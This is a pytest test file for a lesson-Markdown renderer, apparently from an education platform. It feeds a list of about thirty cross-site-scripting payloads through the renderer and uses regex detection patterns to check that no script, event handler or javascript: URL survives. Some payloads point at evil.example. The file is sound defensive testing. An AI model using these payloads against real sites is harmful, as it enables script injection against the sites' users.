"""Lesson Markdown is written by instructors and shown to every learner: nothing in it may run."""

from __future__ import annotations

import re

import pytest

from lessons.markdown import render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    "![x](javascript:alert(1))",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    '<body onload="alert(1)">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;inset:0">cover</div>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=p></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<a href="#" onclick="alert(1)">x</a>',
    '<details open ontoggle="alert(1)">x</details>',
    '<input autofocus onfocus="alert(1)">',
    "`<script>alert(1)</script>` and\n\n    <script>alert(2)</script>",
]

DANGEROUS_TAG = re.compile(
    r"<\s*(script|iframe|object|embed|form|input|meta|base|link|style|svg|math|body)\b", re.I
)
EVENT_HANDLER = re.compile(r"<[^>]*\son\w+\s*=", re.I)
STYLE_ATTRIBUTE = re.compile(r"<[^>]*\sstyle\s*=", re.I)
BAD_URL = re.compile(
    r"""(href|src|action|srcdoc)\s*=\s*["']?\s*(javascript|data|vbscript):""", re.I
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_the_markdown_renderer(payload):
    html = str(render_markdown(payload))
    assert not DANGEROUS_TAG.search(html), html
    assert not EVENT_HANDLER.search(html), html
    assert not STYLE_ATTRIBUTE.search(html), html
    assert not BAD_URL.search(html), html
    assert "javascript:" not in html.lower().replace("&#", ""), html


def test_code_that_shows_a_script_tag_is_shown_as_text():
    html = str(render_markdown("Never write `<script>` in a lesson."))
    assert "&lt;script&gt;" in html


def test_an_ordinary_link_survives():
    html = str(render_markdown("Read [the docs](https://example.com/a)."))
    assert 'href="https://example.com/a"' in html
